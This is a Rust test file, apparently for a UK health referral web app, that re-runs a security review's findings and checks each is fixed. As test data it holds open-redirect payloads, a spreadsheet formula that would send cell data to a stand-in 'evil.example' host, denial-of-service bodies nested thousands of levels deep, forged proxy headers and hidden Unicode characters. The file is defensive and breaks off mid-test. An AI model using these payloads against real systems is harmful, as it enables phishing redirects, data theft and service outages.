//! The security review's findings (issue 8), each reproduced as it was
//! found and answered safely: no input ends the process, no redirect
//! leaves the site, no forged address, no formula in an export, no
//! unbounded work for one request.

mod support;

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use linkwork_app::Principal;
use linkwork_domain::audit::AuditAction;
use linkwork_domain::role::Role;
use linkwork_storage::{AuditFilter, PageRequest};
use serde_json::Value;
use support::{Client, Reply, TestApp};

/// An API token for the fixture tree's GP practice, issued by an ICB admin.
async fn api_token(app: &TestApp) -> String {
    let t = app.tree().await;
    let admin = app
        .user("admin@icb.example", t.icb.id, &[Role::Admin])
        .await;
    let principal = Principal {
        user: admin,
        session_hash: String::new(),
        csrf_token: String::new(),
        ip: None,
    };
    app.app
        .issue_api_token(&principal, &t.practice_a.id.to_string(), "EMIS bridge")
        .await
        .expect("token")
        .secret
}

async fn post_body(
    c: &mut Client,
    path: &str,
    token: &str,
    content_type: &str,
    body: String,
) -> Reply {
    let request = Request::post(path)
        .header(header::AUTHORIZATION, format!("Bearer {token}"))
        .header(header::CONTENT_TYPE, content_type)
        .body(Body::from(body))
        .unwrap();
    c.send(request).await
}

fn first_issue(reply: &Reply) -> Value {
    let outcome: Value = serde_json::from_str(&reply.body)
        .unwrap_or_else(|_| panic!("an OperationOutcome in JSON: {}", reply.body));
    assert_eq!(
        outcome["resourceType"], "OperationOutcome",
        "{}",
        reply.body
    );
    outcome["issue"][0].clone()
}

/// Finding 1: 6,000 nested XML elements overflowed a worker's stack and
/// aborted the process. Deep or huge bodies, XML or JSON, are refused with
/// an OperationOutcome, and the server carries on.
async fn deeply_nested_fhir_bodies_are_refused_not_fatal(app: TestApp) {
    let token = api_token(&app).await;
    let mut c = app.client();

    let deep_xml = format!(
        "<ServiceRequest xmlns=\"http://hl7.org/fhir\">{}{}</ServiceRequest>",
        "<a>".repeat(6000),
        "</a>".repeat(6000)
    );
    let reply = post_body(
        &mut c,
        "/fhir/ServiceRequest",
        &token,
        "application/fhir+xml",
        deep_xml,
    )
    .await;
    assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{}", reply.body);
    assert!(reply.body.contains("<OperationOutcome"), "{}", reply.body);
    assert!(reply.body.contains("too-costly"), "{}", reply.body);
    assert!(reply.body.contains("levels deep"), "{}", reply.body);

    // Many elements, each shallow: refused by count.
    let wide_xml = format!(
        "<ServiceRequest xmlns=\"http://hl7.org/fhir\">{}</ServiceRequest>",
        "<note><text value=\"x\"/></note>".repeat(20_000)
    );
    let reply = post_body(
        &mut c,
        "/fhir/ServiceRequest?_format=json",
        &token,
        "application/fhir+xml",
        wide_xml,
    )
    .await;
    assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{}", reply.body);
    let issue = first_issue(&reply);
    assert_eq!(issue["code"], "too-costly");
    assert!(
        issue["diagnostics"].as_str().unwrap().contains("elements"),
        "{issue}"
    );

    for deep_json in [
        // Beyond serde_json's own recursion limit …
        format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)),
        // … and within it but deeper than any FHIR resource nests.
        format!(
            "{{\"resourceType\":\"ServiceRequest\",\"note\":{}1{}}}",
            "[".repeat(100),
            "]".repeat(100)
        ),
    ] {
        let reply = post_body(
            &mut c,
            "/fhir/ServiceRequest",
            &token,
            "application/fhir+json",
            deep_json,
        )
        .await;
        assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{}", reply.body);
        let issue = first_issue(&reply);
        assert_eq!(issue["code"], "too-costly", "{issue}");
        assert!(
            issue["diagnostics"]
                .as_str()
                .unwrap()
                .contains("levels deep"),
            "{issue}"
        );
    }

    let wide_json = format!(
        "{{\"resourceType\":\"ServiceRequest\",\"note\":[{}]}}",
        vec!["{\"text\":\"x\"}"; 20_000].join(",")
    );
    let reply = post_body(
        &mut c,
        "/fhir/ServiceRequest",
        &token,
        "application/fhir+json",
        wide_json,
    )
    .await;
    assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{}", reply.body);
    assert_eq!(first_issue(&reply)["code"], "too-costly");

    // The JSON referral API parses with serde_json's recursion limit too.
    let reply = post_body(
        &mut c,
        "/api/v1/referrals",
        &token,
        "application/json",
        format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)),
    )
    .await;
    assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{}", reply.body);
    assert!(reply.body.contains("bad_request"), "{}", reply.body);

    // Still serving.
    let metadata = c.get("/fhir/metadata").await;
    assert_eq!(metadata.status, StatusCode::OK);
}

/// Where a browser at `https://linkwork.example/login` goes for `location`.
fn followed(location: &str) -> url::Url {
    url::Url::parse("https://linkwork.example/login")
        .unwrap()
        .join(location)
        .unwrap_or_else(|e| panic!("{location:?} is not a URL a browser can follow: {e}"))
}

/// Finding 2: `next=/%09/evil.example` redirected to `/\t/evil.example`,
/// which browsers read as `//evil.example`; control characters gave a
/// plain-text 500. Only a path that stays on this site, by the browser's
/// own rules, is returned to; anything odd goes home.
async fn sign_in_never_redirects_off_site(app: TestApp) {
    let t = app.tree().await;
    app.user("lw@pcn-a.example", t.pcn_a.id, &[Role::LinkWorker])
        .await;
    let mut signed_in = app.signed_in("lw@pcn-a.example").await;
    let hostile = [
        "/%09/evil.example",
        "/%0a/evil.example",
        "/%0d%0a/evil.example",
        "%7f",
        "%0a",
        "/%7f",
        "/%00",
        "/%5cevil.example",
        "%5c%5cevil.example",
        "//evil.example",
        "/%2f/evil.example",
        "///evil.example",
        "/.//evil.example",
        "/a/..//evil.example",
        "/%E3%80%80/evil.example",
        "https://evil.example",
        "javascript:alert(1)",
        "%20//evil.example",
    ];
    for next in hostile {
        let reply = signed_in.get(&format!("/login?next={next}")).await;
        assert_eq!(
            reply.status,
            StatusCode::SEE_OTHER,
            "{next}: {}",
            reply.body
        );
        let location = reply.location().unwrap();
        assert_eq!(
            followed(location).host_str(),
            Some("linkwork.example"),
            "{next} → {location}"
        );
        assert!(
            !location.starts_with("//") && !location.contains(['\\', '\t', '\n']),
            "{next} → {location:?}"
        );
    }
    for control in [
        "%7f",
        "%0a",
        "/%09/evil.example",
        "/%00",
        "/.//evil.example",
    ] {
        let reply = signed_in.get(&format!("/login?next={control}")).await;
        assert_eq!(reply.location(), Some("/"), "{control}");
    }
    // Ordinary paths still work, query and all, with other scripts encoded.
    let reply = signed_in.get("/login?next=%2Fpeople%3Fq%3DZo%C3%AB").await;
    assert_eq!(reply.location(), Some("/people?q=Zo%C3%AB"));

    // The same rules when the form posts `next` back.
    let mut c = app.client();
    let page = c.get("/login?next=/%09/evil.example").await;
    assert!(
        page.body.contains("name=\"next\" value=\"/\""),
        "{}",
        page.body
    );
    for next in ["/\t/evil.example", "/\u{7f}", "/\\evil.example"] {
        let mut c = app.client();
        c.get("/login").await;
        let reply = c
            .post(
                "/login",
                &[
                    ("email", "lw@pcn-a.example"),
                    ("password", support::PASSWORD),
                    ("next", next),
                ],
            )
            .await;
        assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.body);
        assert_eq!(reply.location(), Some("/"), "{next:?}");
    }
}

/// Fails a sign-in with `X-Forwarded-For: forwarded` and returns the
/// client address the audit log recorded for it.
async fn address_recorded_for(app: &TestApp, forwarded: &[&str]) -> Option<String> {
    let mut c = app.client();
    c.get("/login").await;
    let token = c.csrf().unwrap().to_owned();
    let body = serde_urlencoded::to_string([
        ("email", format!("{}@example.org", uuid::Uuid::new_v4())),
        ("password", "wrong".into()),
        ("csrf_token", token),
    ])
    .unwrap();
    let mut request =
        Request::post("/login").header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
    for line in forwarded {
        request = request.header("x-forwarded-for", *line);
    }
    let request = request.body(Body::from(body)).unwrap();
    assert_eq!(c.send(request).await.status, StatusCode::UNAUTHORIZED);
    let events = app
        .store()
        .audit_events(
            &AuditFilter {
                action: Some(AuditAction::SignInFailed.code().into()),
                ..Default::default()
            },
            PageRequest::new(1, 1),
        )
        .await
        .unwrap();
    events.items[0].ip.clone()
}

/// Finding 5: the left-most `X-Forwarded-For` entry, which the client
/// writes, was taken as its address. With `trusted_proxies = N` the address
/// is the one the N-th proxy back added (the right-most for one proxy);
/// without, the header is ignored.
async fn only_addresses_added_by_trusted_proxies_are_believed(app: TestApp) {
    let app = app.reconfigured(|s| s.trusted_proxies = 1);
    assert_eq!(
        address_recorded_for(&app, &["6.6.6.6, 203.0.113.7"])
            .await
            .as_deref(),
        Some("203.0.113.7")
    );
    // Several header lines are one list, in order.
    assert_eq!(
        address_recorded_for(&app, &["6.6.6.6,203.0.113.9 ", " [2001:db8::1]:4711"])
            .await
            .as_deref(),
        Some("2001:db8::1")
    );
    let app = app.reconfigured(|s| s.trusted_proxies = 2);
    assert_eq!(
        address_recorded_for(&app, &["6.6.6.6, 203.0.113.8, 10.0.0.2"])
            .await
            .as_deref(),
        Some("203.0.113.8")
    );
    // The old switch means one proxy.
    let app = app.reconfigured(|s| {
        s.trusted_proxies = 0;
        s.trust_forwarded_for = true;
    });
    assert_eq!(
        address_recorded_for(&app, &["6.6.6.6, 203.0.113.10"])
            .await
            .as_deref(),
        Some("203.0.113.10")
    );
    // No proxy trusted: the header is the client's to write, so ignored.
    let app = app.reconfigured(|s| s.trust_forwarded_for = false);
    assert_eq!(address_recorded_for(&app, &["6.6.6.6"]).await, None);
}

/// Finding 6: a listing named `=HYPERLINK(…)` reached the audit CSV as a
/// formula. Every cell a spreadsheet would run (starting `= + - @`, tab or
/// carriage return) is written with a leading `'`, OWASP's rule.
async fn exported_csv_cells_are_never_formulas(app: TestApp) {
    let app = app.with_demo().await;
    let organisation = app
        .store()
        .directory_organizations(None)
        .await
        .unwrap()
        .into_iter()
        .next()
        .unwrap();
    let mut manager = app.demo_user("directory@riverside.example").await;
    manager.get("/directory/services/new").await;
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Help\")";
    let need = linkwork_domain::directory::needs::need_id("befriending")
        .unwrap()
        .to_string();
    let created = manager
        .post(
            "/directory/services/new",
            &[
                ("organization_id", &organisation.id.to_string()),
                ("name", formula),
                ("description", "-2+3 and @SUM(A1:A9)"),
                ("status", "active"),
                ("needs", &need),
            ],
        )
        .await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    assert!(
        created
            .location()
            .unwrap()
            .starts_with("/directory/services/"),
        "{:?}",
        created.location()
    );
    for detail in ["+1 (555) 0100", "-1", "@mention", "\tindented", "\rreturn"] {
        app.store()
            .record(
                &linkwork_domain::audit::NewAuditEvent::new(
                    linkwork_domain::audit::Actor::System,
                    AuditAction::NeedChange,
                    linkwork_domain::time::now(),
                )
                .detail(detail),
            )
            .await
            .unwrap();
    }

    let mut out = Vec::new();
    app.app
        .export_audit_csv(&AuditFilter::default(), &mut out)
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(out.as_slice());
    let details: Vec<String> = reader.records().map(|r| r.unwrap()[8].to_owned()).collect();
    assert!(
        details.contains(&format!("'{formula}")),
        "{:?}",
        &details[details.len() - 8..]
    );
    for neutralised in [
        "'+1 (555) 0100",
        "'-1",
        "'@mention",
        "'\tindented",
        "'\rreturn",
    ] {
        assert!(details.iter().any(|d| d == neutralised), "{neutralised:?}");
    }
    let dangerous = ['=', '+', '-', '@', '\t', '\r'];
    for row in csv::Reader::from_reader(out.as_slice()).records() {
        for cell in row.unwrap().iter() {
            assert!(!cell.starts_with(dangerous), "{cell:?}");
        }
    }
}

fn api_referral() -> Value {
    serde_json::json!({
        "person": {
            "nhs_number": "943 476 5919",
            "given_name": "Kwame",
            "family_name": "Mensah",
            "date_of_birth": "1948-11-02",
            "address": {"line1": "4 Canal Street", "postcode": "rv1 3bq"},
            "phone": "07700 900 123"
        },
        "reasons": ["loneliness"],
        "consent": {"referral": true, "contact": true},
        "referrer": {"name": "Ward 7 discharge team", "phone": "01632 960 555"}
    })
}

/// Finding 9: names took NUL, control and text-direction characters (a NUL
/// made the FHIR XML malformed). Every name people type is refused with
/// them and kept in composed form; a people search of a thousand words
/// (503 on SQLite) is refused; a notice is never text from the address.
async fn typed_text_is_clean_and_bounded(app: TestApp) {
    let app = app.with_demo().await;
    let token = linkwork_demo::DEMO_API_TOKEN;
    let mut c = app.client();
    for (field, value) in [
        ("given_name", "Gra\u{0}ce"),
        ("family_name", "Okafor\u{202e}rehto"),
        ("given_name", "Tab\tbed"),
    ] {
        let mut body = api_referral();
        body["person"][field] = value.into();
        let reply = post_body(
            &mut c,
            "/api/v1/referrals",
            token,
            "application/json",
            body.to_string(),
        )
        .await;
        assert_eq!(
            reply.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{}",
            reply.body
        );
        assert!(reply.body.contains("hidden characters"), "{}", reply.body);
    }
    let mut body = api_referral();
    body["person"]["given_name"] = "Zoe\u{308}".into();
    body["person"]["nhs_number"] = "401 023 2137".into();
    let reply = post_body(
        &mut c,
        "/api/v1/referrals",
        token,
        "application/json",
        body.to_string(),
    )
    .await;
    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
    let id = serde_json::from_str::<Value>(&reply.body).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let referral = app
        .store()
        .referral(id.parse().unwrap())
        .await
        .unwrap()
        .unwrap();
    let person = app
        .store()
        .person(referral.person_id)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        person.details.given_name, "Zo\u{eb}",
        "stored composed (NFC)"
    );

    // Staff names too.
    let admin_email = "admin@riverside.example";
    let org_id = app
        .store()
        .user_credentials(&admin_email.parse().unwrap())
        .await
        .unwrap()
        .unwrap()
        .user
        .org_id
        .to_string();
    let mut admin = app.demo_user(admin_email).await;
    admin.get("/admin/users/new").await;
    let refused = admin
        .post(
            "/admin/users",
            &[
                ("email", "eve@riverside.example"),
                ("display_name", "Eve \u{202e}nimda"),
                ("org_id", &org_id),
                ("roles", "admin"),
            ],
        )
        .await;
    assert_eq!(
        refused.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        refused.body
    );
    assert!(
        refused
            .body
            .contains("Name must not include hidden characters")
    );

    // A thousand words are refused with a message, not a database error,
    // in people search and the waiting list's.
    let mut worker = app.demo_user("teamlead.north@riverside.example").await;
    let words = "smith ".repeat(1000);
    for list in ["/people", "/waiting-list"] {
        let reply = worker
            .get(&format!("{list}?q={}", words.trim().replace(' ', "+")))
            .await;
        assert_eq!(
            reply.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{list}: {}",
            reply.body
        );
        assert!(reply.body.contains("Enter no more than 8 words"), "{list}");
        assert!(
            reply.body.contains("smith smith"),
            "{list}: what was typed is kept"
        );
    }

    // Notices come from Linkwork, not from the address.
    let forged = admin
        .get("/admin/api-tokens?revoked=Call+0800+000+000+to+restore+access")
        .await;
    assert_eq!(forged.status, StatusCode::OK);
    assert!(!forged.body.contains("0800 000 000"), "{}", forged.body);
    let marker = "action=\"/admin/api-tokens/";
    let start = forged.body.find(marker).expect("a token to revoke") + marker.len();
    let token_id = &forged.body[start..start + 36];
    let revoked = admin
        .post(&format!("/admin/api-tokens/{token_id}/revoke"), &[])
        .await;
    assert_eq!(revoked.status, StatusCode::SEE_OTHER);
    let location = revoked.location().unwrap().to_owned();
    assert_eq!(location, format!("/admin/api-tokens?revoked={token_id}"));
    let shown = admin.get(&location).await;
    assert!(shown.body.contains("has been revoked"), "{}", shown.body);
}

/// Finding 11: `proximity=200000000` had one anonymous request walk ~10^12
/// map squares while holding the search index. Distances are capped at
/// 1,000 km (England fits), the walk is bounded by the data, and the
/// search runs on a blocking thread with a time limit.
async fn huge_distances_answer_at_once(app: TestApp) {
    let app = app.with_demo().await;
    let mut c = app.client();
    let mut totals = Vec::new();
    for proximity in ["200000000", "1e300", "1000000"] {
        for list in ["services", "service_at_locations"] {
            let reply = c
                .get(&format!(
                    "/api/oruk/{list}?postcode=RV1%203BQ&proximity={proximity}&per_page=1"
                ))
                .await;
            assert_eq!(
                reply.status,
                StatusCode::OK,
                "{list} {proximity}: {}",
                reply.body
            );
            let body: Value = serde_json::from_str(&reply.body).unwrap();
            totals.push((list, body["total_items"].as_u64().unwrap()));
        }
    }
    assert_eq!(totals[0..2], totals[4..6], "capped at 1,000 km");
    assert!(totals[0].1 > 0);
}

/// Finding 13: every sign-in hashed on its own blocking thread, so a flood
/// of `/login` posts could hold gigabytes. With one hash at a time and no
/// queue, sign-ins fired together find the gate shut: 503 with
/// `Retry-After`, the form and its email kept, and nothing else goes wrong.
async fn a_flood_of_sign_ins_is_refused_not_hashed(app: TestApp) {
    let app = app.reconfigured(|s| {
        s.password_hashing.memory_kib = 8 * 1024;
        s.password_hashing.iterations = 2;
        s.password_hashing.max_concurrent = 1;
        s.password_hashing.max_waiting = 0;
    });
    let t = app.tree().await;
    app.user("lw@pcn-a.example", t.pcn_a.id, &[Role::LinkWorker])
        .await;
    let mut attempts = Vec::new();
    for i in 0..16 {
        let mut c = app.client();
        c.get("/login").await;
        attempts.push(tokio::spawn(async move {
            let email = format!("flood{i}@example.org");
            c.post("/login", &[("email", &email), ("password", "guess")])
                .await
        }));
    }
    let mut refused = 0;
    for attempt in attempts {
        let reply = attempt.await.unwrap();
        match reply.status {
            StatusCode::UNAUTHORIZED => {}
            StatusCode::SERVICE_UNAVAILABLE => {
                refused += 1;
                assert_eq!(
                    reply.headers.get(header::RETRY_AFTER).unwrap(),
                    "2",
                    "{}",
                    reply.body
                );
                assert!(reply.body.contains("Too many people are signing in"));
                assert!(reply.body.contains("value=\"flood"), "the email is kept");
            }
            other => panic!("{other}: {}", reply.body),
        }
    }
    assert!(refused > 0, "sixteen at once, one at a time, none waiting");
    // The gate opens again.
    app.signed_in("lw@pcn-a.example").await;
}

/// "N past the target" as the waiting list says it, and how many rows it
/// tags "Past target".
fn past_target(body: &str) -> (usize, usize) {
    let marker = "nhsuk-tag--red\">";
    let said = body
        .split(marker)
        .skip(1)
        .find_map(|s| s.split_once(" past the ").map(|(n, _)| n.parse().unwrap()))
        .unwrap_or(0);
    (said, body.matches("Past target</strong>").count())
}

/// Finding 14: the count of referrals past the first-contact target and
/// the rows tagged "Past target" used different rules, so they disagreed
/// on weekends and bank holidays. Today is made a bank holiday here, when
/// they used to disagree whatever day the test runs.
async fn the_past_target_count_matches_the_tagged_rows(app: TestApp) {
    use chrono::Duration;
    use linkwork_domain::calendar::{uk_date, uk_start_of_day};
    use linkwork_storage_testsuite::referral_fixtures::{add_referral, person};
    let today = uk_date(linkwork_domain::time::now());
    let app = app.reconfigured(|s| s.referrals.non_working_days.push(today));
    let t = app.tree().await;
    app.user("lead@pcn-a.example", t.pcn_a.id, &[Role::TeamLead])
        .await;
    for days_ago in 0..20 {
        let at = uk_start_of_day(today - Duration::days(days_ago)) + Duration::hours(12);
        let family = format!("Waiting{days_ago}");
        add_referral(
            app.store(),
            person(t.pcn_a.id, "Test", &family, None, None),
            at,
        )
        .await;
    }
    let mut lead = app.signed_in("lead@pcn-a.example").await;
    let all = lead.get("/waiting-list").await;
    assert_eq!(all.status, StatusCode::OK);
    let (said, tagged) = past_target(&all.body);
    assert!(tagged > 0, "{}", all.body);
    assert_eq!(said, tagged, "the count and the tags agree");
    let only = lead.get("/waiting-list?stage=past_target").await;
    assert_eq!(
        past_target(&only.body),
        (said, said),
        "and the stage lists them"
    );
    let rows = |body: &str| body.matches("Test Waiting").count();
    assert_eq!(rows(&only.body) * 20, rows(&all.body) * said);
}

/// Finding 14: `?page=` beyond a u32 was cut down with `as` (page
/// 4294967297 showed page 1) or refused with a plain-text error. It is
/// now the last page there could be: an empty page, rendered as usual.
async fn page_numbers_beyond_range_are_past_the_end(app: TestApp) {
    let app = app.with_demo().await;
    let mut lead = app.demo_user("teamlead.north@riverside.example").await;
    let first = lead.get("/waiting-list").await;
    assert!(
        first
            .body
            .contains("<a class=\"nhsuk-link\" href=\"/referrals/")
    );
    for huge in ["4294967297", "99999999999999999999999999"] {
        let far = lead.get(&format!("/waiting-list?page={huge}")).await;
        assert_eq!(far.status, StatusCode::OK, "{}", far.body);
        assert!(
            !far.body
                .contains("<a class=\"nhsuk-link\" href=\"/referrals/"),
            "not page 1"
        );
        let search = lead.get(&format!("/directory?q=club&page={huge}")).await;
        assert_eq!(search.status, StatusCode::OK, "{}", search.body);
        assert!(
            !search.body.contains("href=\"/directory/services/"),
            "no results past the end"
        );
        for path in ["/caseload", "/people?q=smith", "/referrals/sent"] {
            let reply = lead
                .get(&format!(
                    "{path}{}page={huge}",
                    if path.contains('?') { '&' } else { '?' }
                ))
                .await;
            assert_eq!(reply.status, StatusCode::OK, "{path}: {}", reply.body);
        }
    }
    let words = lead.get("/waiting-list?page=two").await;
    assert_eq!(words.status, StatusCode::OK);
    assert!(
        words
            .body
            .contains("<a class=\"nhsuk-link\" href=\"/referrals/"),
        "the first page"
    );
    let search = lead.get("/directory?q=club&page=1").await;
    assert!(search.body.contains("href=\"/directory/services/"));
    let mut admin = app.demo_user("admin@riverside.example").await;
    for path in ["/admin/audit", "/admin/outbox", "/admin/security"] {
        for page in ["4294967297", "two"] {
            let reply = admin.get(&format!("{path}?page={page}")).await;
            assert_eq!(reply.status, StatusCode::OK, "{path}?page={page}");
        }
    }
    let mut partner = app.demo_user("partner.befrienders@riverside.example").await;
    for page in ["4294967297", "two"] {
        let inbox = partner
            .get(&format!("/partner/referrals?show=all&page={page}"))
            .await;
        assert_eq!(inbox.status, StatusCode::OK, "inbox page {page}");
    }
}

/// Finding 14: the audit log's date filter and times were UTC where UK
/// dates are meant: an event at 00:30 on 16 July (BST) was on the 15th.
async fn the_audit_log_filters_and_shows_uk_dates(app: TestApp) {
    use chrono::{TimeZone, Utc};
    let t = app.tree().await;
    app.user("admin@icb.example", t.icb.id, &[Role::Admin])
        .await;
    let just_after_midnight_bst = Utc.with_ymd_and_hms(2026, 7, 15, 23, 30, 0).unwrap();
    app.store()
        .record(
            &linkwork_domain::audit::NewAuditEvent::new(
                linkwork_domain::audit::Actor::System,
                AuditAction::NeedChange,
                just_after_midnight_bst,
            )
            .org(t.icb.id)
            .detail("Summer night change"),
        )
        .await
        .unwrap();
    let mut admin = app.signed_in("admin@icb.example").await;
    let on = |day: &str| format!("/admin/audit?action=need.change&from={day}&to={day}");
    let that_day = admin.get(&on("2026-07-16")).await;
    assert!(
        that_day.body.contains("Summer night change"),
        "{}",
        that_day.body
    );
    assert!(that_day.body.contains("2026-07-16 00:30:00"));
    assert!(that_day.body.contains("When (UK time)"));
    let day_before = admin.get(&on("2026-07-15")).await;
    assert!(!day_before.body.contains("Summer night change"));
}

/// Signs in through the form as if from `address` (one trusted proxy).
async fn sign_in_from(app: &TestApp, email: &str, password: &str, address: &str) -> Reply {
    let mut c = app.client();
    c.get("/login").await;
    let token = c.csrf().unwrap().to_owned();
    let body = serde_urlencoded::to_string([
        ("email", email),
        ("password", password),
        ("csrf_token", &token),
    ])
    .unwrap();
    let request = Request::post("/login")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header("x-forwarded-for", address)
        .body(Body::from(body))
        .unwrap();
    c.send(request).await
}

async fn events(app: &TestApp, action: AuditAction) -> Vec<linkwork_domain::audit::AuditEvent> {
    app.store()
        .audit_events(
            &AuditFilter {
                action: Some(action.code().into()),
                ..Default::default()
            },
            PageRequest::new(1, 100),
        )
        .await
        .unwrap()
        .items
}

/// Finding 3: five wrong passwords for a known email refused the right
/// one from every address for 15 minutes, and fifty failures from one
/// address refused everyone behind it. Now only the address that guessed
/// is refused for that account; the owner gets in from anywhere else; the
/// account's admins are told; and a busy address is slowed, not refused.
async fn a_stranger_cannot_lock_an_account_or_a_practice_out(app: TestApp) {
    let app = app.reconfigured(|s| {
        s.trusted_proxies = 1;
        s.login.max_failures_per_address = 3;
        s.login.max_delay_seconds = 1;
    });
    let t = app.tree().await;
    let owner = "lw@pcn-a.example";
    app.user(owner, t.pcn_a.id, &[Role::LinkWorker]).await;
    let stranger = "198.51.100.66";
    for _ in 0..5 {
        let reply = sign_in_from(&app, owner, "guess", stranger).await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED);
    }
    let refused = sign_in_from(&app, owner, support::PASSWORD, stranger).await;
    assert_eq!(refused.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(refused.headers.get(header::RETRY_AFTER).is_some());
    let from_home = sign_in_from(&app, owner, support::PASSWORD, "203.0.113.5").await;
    assert_eq!(from_home.status, StatusCode::SEE_OTHER, "the owner gets in");

    let locked = events(&app, AuditAction::AccountLocked).await;
    assert_eq!(locked.len(), 1);
    assert_eq!(
        locked[0].org_id,
        Some(t.pcn_a.id),
        "reported to its organisation"
    );
    assert!(locked[0].detail.contains(stranger), "{}", locked[0].detail);
    let failed = events(&app, AuditAction::SignInFailed).await;
    assert!(failed.iter().all(|e| e.org_id == Some(t.pcn_a.id)));

    // A practice behind one address: its failures slow it down; the right
    // password still gets in.
    let practice = "192.0.2.200";
    for i in 0..3 {
        let reply = sign_in_from(
            &app,
            &format!("colleague{i}@pcn-a.example"),
            "typo",
            practice,
        )
        .await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED);
    }
    let slowed = sign_in_from(&app, "colleague9@pcn-a.example", "typo", practice).await;
    assert_eq!(
        slowed.status,
        StatusCode::UNAUTHORIZED,
        "slowed, not refused"
    );
    assert!(
        events(&app, AuditAction::SignInFailed)
            .await
            .iter()
            .any(|e| e.detail.ends_with("(slowed by 1 s)")),
        "the delay is recorded"
    );
    let colleague = "lead@pcn-a.example";
    app.user(colleague, t.pcn_a.id, &[Role::TeamLead]).await;
    let in_anyway = sign_in_from(&app, colleague, support::PASSWORD, practice).await;
    assert_eq!(in_anyway.status, StatusCode::SEE_OTHER);
}

/// Finding 12: sign-in throttling counted failures, hashed, then recorded,
/// so guesses sent together all saw none. Twelve at once from one address:
/// five are checked, the rest refused without hashing.
async fn guesses_sent_together_are_counted_one_by_one(app: TestApp) {
    let app = app.reconfigured(|s| s.trusted_proxies = 1);
    let t = app.tree().await;
    app.user("lw@pcn-a.example", t.pcn_a.id, &[Role::LinkWorker])
        .await;
    let guesses: Vec<_> = (0..12)
        .map(|i| {
            let app_router = app.router.clone();
            async move {
                let mut c = support::Client::new(app_router);
                c.get("/login").await;
                let token = c.csrf().unwrap().to_owned();
                let body = serde_urlencoded::to_string([
                    ("email", "lw@pcn-a.example"),
                    ("password", &format!("guess {i}")),
                    ("csrf_token", &token),
                ])
                .unwrap();
                let request = Request::post("/login")
                    .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                    .header("x-forwarded-for", "198.51.100.7")
                    .body(Body::from(body))
                    .unwrap();
                c.send(request).await.status
            }
        })
        .map(tokio::spawn)
        .collect();
    let mut statuses = Vec::new();
    for guess in guesses {
        statuses.push(guess.await.unwrap());
    }
    let checked = statuses
        .iter()
        .filter(|s| **s == StatusCode::UNAUTHORIZED)
        .count();
    let refused = statuses
        .iter()
        .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
        .count();
    assert_eq!((checked, refused), (5, 7), "{statuses:?}");
}

/// Finding 12: the public form's limit was checked, then counted, so
/// submissions sent together slipped past it. Fourteen at once against a
/// limit of ten: ten pass.
async fn the_public_form_limit_holds_for_submissions_sent_together(app: TestApp) {
    let checks = futures::future::join_all(
        (0..14).map(|_| app.app.allow_public_submission(Some("198.51.100.9"))),
    )
    .await;
    let allowed = checks.into_iter().filter(|c| *c.as_ref().unwrap()).count();
    assert_eq!(allowed, 10);
    assert_eq!(
        events(&app, AuditAction::PublicReferralThrottled)
            .await
            .len(),
        4
    );
}

/// Finding 12: a set-password link was checked, then used, so one link
/// could be redeemed twice. Five at once: one password is set.
async fn a_set_password_link_works_once_however_fast_it_is_sent(app: TestApp) {
    let t = app.tree().await;
    let user = app
        .user("new@pcn-a.example", t.pcn_a.id, &[Role::LinkWorker])
        .await;
    let token = app
        .app
        .issue_reset_link(linkwork_app::admin::Caller::Operator, user.id)
        .await
        .unwrap();
    let client = linkwork_app::accounts::ClientInfo::default();
    let passwords: Vec<String> = (0..5)
        .map(|i| format!("kettle harbour violet {i}"))
        .collect();
    let tries = futures::future::join_all(
        passwords
            .iter()
            .map(|p| app.app.redeem_credential_link(&token, p, p, &client)),
    )
    .await;
    let set = tries.iter().filter(|t| t.is_ok()).count();
    assert_eq!(set, 1, "{tries:?}");
    assert!(
        tries
            .iter()
            .filter_map(|t| t.as_ref().err())
            .all(|e| matches!(e, linkwork_app::AppError::NotFound(_)))
    );
    assert_eq!(events(&app, AuditAction::PasswordSet).await.len(), 1);
    // The page says the link has been used.
    let page = app.client().get(&format!("/account/setup/{token}")).await;
    assert!(
        page.body.contains("expired") || page.body.contains("used"),
        "{}",
        page.body
    );
}

/// Finding 7: failed and refused sign-ins, discarded public submissions and
/// audit exports belonged to no organisation, so no admin saw them. Events
/// about an account are its organisation's; the rest are shown to the
/// admins at the top of the tree (the ICB), on a security events page.
async fn admins_see_the_security_events_of_their_organisations(app: TestApp) {
    let t = app.tree().await;
    app.user("admin@icb.example", t.icb.id, &[Role::Admin])
        .await;
    app.user("admin@pcn-a.example", t.pcn_a.id, &[Role::Admin])
        .await;
    app.user("lw@pcn-a.example", t.pcn_a.id, &[Role::LinkWorker])
        .await;
    assert_eq!(
        app.client()
            .login("lw@pcn-a.example", "not the password")
            .await
            .status,
        StatusCode::UNAUTHORIZED
    );
    app.client().login("nobody@unknown.example", "guess").await;
    app.app
        .discard_public_submission(Some("198.51.100.23"))
        .await
        .unwrap();
    app.app
        .export_audit_csv(&AuditFilter::default(), std::io::sink())
        .await
        .unwrap();

    let mut icb = app.signed_in("admin@icb.example").await;
    let all = icb.get("/admin/security").await;
    assert_eq!(all.status, StatusCode::OK, "{}", all.body);
    for seen in [
        "Wrong email or password for lw@pcn-a.example",
